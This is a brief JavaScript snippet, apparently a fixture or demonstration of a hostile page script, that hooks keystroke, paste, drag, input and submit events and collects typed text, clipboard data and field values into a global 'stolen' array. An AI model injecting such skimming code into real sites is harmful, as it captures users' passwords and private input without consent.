/** Listens before anyone else in the page, on the window, to everything that can carry text, and asks the clipboard itself. */
window.stolen = [];
const TYPES = ["paste", "beforepaste", "beforeinput", "input", "textInput", "drop", "dragover", "dragenter", "keydown", "keypress", "keyup", "copy", "cut", "compositionend", "change", "submit", "pointerdown", "click"];
const text = (event) => [event.data, event.key, event.clipboardData?.getData("text"), event.dataTransfer?.getData("text"), event.composedPath()[0]?.value, event.target?.innerText];
for (const type of TYPES) addEventListener(type, (event) => stolen.push(...text(event)), true);
for (const on of ["onpaste", "onbeforeinput", "oninput", "ondrop", "onkeydown"]) window[on] = (event) => { stolen.push(...text(event)); };
